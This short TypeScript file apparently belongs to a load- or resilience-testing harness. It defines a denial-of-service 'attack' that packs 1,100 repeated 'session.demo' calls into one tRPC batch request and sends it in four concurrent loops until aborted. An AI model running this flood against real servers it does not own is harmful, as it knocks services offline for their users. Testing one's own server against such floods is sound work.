import type { Attack } from '../attack.ts';

export const attack: Attack = {
  name: 'batches of 1,100 calls, 4 at once',
  run: async ({ origin }, signal) => {
    const address = `${origin}/api/trpc/${Array.from({ length: 1_100 }, () => 'session.demo').join(',')}?batch=1&input=%7B%7D`;
    await Promise.all(
      Array.from({ length: 4 }, async () => {
        while (!signal.aborted)
          await fetch(address, { signal }).then(
            (response) => response.text(),
            () => undefined,
          );
      }),
    );
  },
};
